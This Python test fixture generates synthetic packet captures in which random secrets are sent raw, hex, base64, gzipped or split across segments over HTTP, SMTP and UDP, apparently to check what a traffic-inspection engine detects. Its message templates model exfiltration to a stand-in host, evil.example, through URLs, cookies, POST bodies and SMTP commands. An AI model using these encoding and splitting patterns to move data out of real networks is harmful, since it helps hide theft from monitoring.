"""Traffic full of secrets: raw, base64, gzip and cut over segments, over the protocols the engine reads."""

import base64
import gzip
import random
from dataclasses import dataclass

from tests.selection import build
from tests.selection.build import UDP, ip4, udp

OUT, IN = "203.0.113.66", "192.0.2.10"
LETTERS = "bcdfghjklmnpqrstvwxz"
MARK = b"MZ\x90\0"


@dataclass(frozen=True)
class Secret:
    """A secret, and the bytes by which it would be known wherever it turned up."""

    text: str
    forms: tuple[bytes, ...]


def _forms(text: str, packed: bytes) -> tuple[bytes, ...]:
    """The secret itself, its hexadecimal, base64 at each of the three alignments, and its gzip as it was sent."""
    raw = text.encode()
    aligned = [base64.b64encode(b"\0" * lead + raw)[4 if lead else 0 : -4] for lead in range(3)]
    return raw, raw.hex().encode(), *aligned, packed, packed.hex().encode()


def _message(kind: int, raw: bytes, packed: bytes) -> list[bytes]:
    sent = (raw, base64.b64encode(raw), packed)[kind // 8 % 3]
    length = str(len(sent) + len(MARK)).encode()
    mail = b"EHLO evil.example\r\nMAIL FROM:<" + raw + b"@evil.example>\r\nDATA\r\nFrom: "
    return [
        [b"GET /" + sent + b" HTTP/1.1\r\nHost: www.evil.example\r\nCookie: " + sent + b"\r\n\r\n"],
        [b"POST / HTTP/1.1\r\nHost: evil.example\r\nContent-Length: " + length + b"\r\n\r\n" + MARK + sent],
        [mail, raw + b" <", raw + b"@b.example>\r\n"],
        [b"EHLO evil.example\r\nDATA\r\nSubject: " + sent + b"\r\n\r\n" + MARK + sent + b"\r\n.\r\n"],
        [b"EHLO evil.example\r\nAUTH LOGIN\r\n" + sent + b"\r\n"],
        [MARK + sent[:9], sent[9:]],
        [MARK, *[bytes((byte,)) for byte in sent]],
        [sent],
    ][kind % 8]  # fmt: skip


def planted(rng: random.Random, number: int) -> tuple[list[Secret], bytes]:
    """Return so many secrets and a capture that carries each; two in three would be kept, if anything were."""
    secrets, packets = [], []
    for count in range(number):
        text = "".join(rng.choices(LETTERS, k=24))
        packed = gzip.compress(text.encode(), mtime=0)
        secrets.append(Secret(text, _forms(text, packed)))
        source, begin, port = OUT if count % 3 else "10.0.0.9", count * 50, 20_000 + count
        if count % 9 == 8:
            packets.append((build.at(begin), ip4(source, IN, UDP, udp(port, 9, MARK + text.encode()))))
        else:
            pieces = _message(count, text.encode(), packed)
            packets += build.side(source, IN, port, rng.choice([25, 80, 9999]), pieces, start=begin)
    return secrets, build.pcap(build.framed(packets))


def found_in(secrets: list[Secret], data: bytes) -> set[str]:
    """Return the secrets that occur in these bytes in any form."""
    return {secret.text for secret in secrets if any(form in data for form in secret.forms)}
